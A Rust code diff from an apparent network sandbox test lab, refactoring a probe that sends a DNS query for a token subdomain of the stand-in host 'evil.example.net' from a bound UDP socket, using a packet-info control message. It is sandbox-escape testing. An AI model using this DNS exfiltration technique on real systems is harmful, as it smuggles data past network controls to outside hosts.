@@ -6,7 +6,7 @@ use std::os::fd::OwnedFd;
 
 use netwright_sandbox_lab::internet::dns::{self, Question, kind};
 
-use crate::net::{PATIENCE, named, send_message, socket_address, tcp};
+use crate::net::{PATIENCE, named, packet_information, send_message, socket_address, tcp};
 use crate::{Came, Outcome, Way, token, word};
 
 pub(crate) const WAYS: &[Way] = &[
@@ -114,9 +114,7 @@ fn as_another_socket(words: &[&str]) -> Outcome {
     let (to, own, port) = (server(words)?, Ipv4Addr::new(127, 0, 0, 9), word(words, 1)?.parse()?);
     let socket = OwnedFd::from(UdpSocket::bind((own, port))?);
     let question = Question { id: 7, name: format!("{}.evil.example.net", token()), kind: kind::A };
-    // struct cmsghdr and struct in_pktinfo.
-    let head = [libc::IPPROTO_IP, libc::IP_PKTINFO, 0].map(i32::to_ne_bytes).concat();
-    let control = [&28_u64.to_ne_bytes()[..], &head, &Ipv4Addr::LOCALHOST.octets(), &[0; 8]].concat();
+    let control = packet_information(0, Ipv4Addr::LOCALHOST);
     send_message(&socket, &socket_address(to), &question.message(), &control, 0)?;
     std::thread::sleep(PATIENCE);
     Err("the question is sent".into())
